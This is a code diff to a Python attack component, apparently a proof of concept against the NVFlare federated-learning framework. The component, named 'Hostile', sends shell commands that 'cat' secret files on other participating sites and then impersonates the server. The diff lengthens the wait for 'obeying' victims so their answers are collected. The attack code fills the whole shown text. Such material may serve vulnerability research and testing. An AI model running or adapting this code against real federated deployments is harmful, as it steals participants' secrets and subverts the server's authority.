@@ -25,6 +25,7 @@ from nvflare.private.defs import (
 )
 
 SECONDS = 8.0
+OBEYING_SECONDS = 300.0  # whoever answers is waited for, however busy the machine is
 
 
 class Hostile(FLComponent):  # type: ignore[misc]
@@ -44,7 +45,8 @@ def attack(engine: Any) -> None:
         time.sleep(2.0)  # until the others are connected, too
         cell = engine.get_cell()
         for victim, secrets in orders["victims"].items():
-            answers[victim] = _ask(cell, victim, SysCommandTopic.SHELL, f"cat {' '.join(secrets)}")
+            seconds = OBEYING_SECONDS if victim in orders["obeying"] else SECONDS
+            answers[victim] = _ask(cell, victim, SysCommandTopic.SHELL, f"cat {' '.join(secrets)}", seconds=seconds)
         _speak_as_server(engine, list(orders["victims"]), orders["job"])
     except Exception as error:  # whoever reads the answers must see it
         answers["error"] = repr(error)
@@ -54,7 +56,7 @@ def attack(engine: Any) -> None:
 
 
 def _ask(
-    cell: Any, victim: str, topic: str, body: Any, *, seconds: float = SECONDS, headers: dict[str, Any] | None = None
+    cell: Any, victim: str, topic: str, body: Any, *, seconds: float, headers: dict[str, Any] | None = None
 ) -> str:
     request = Message(topic, body)
     request.set_headers(headers or {})
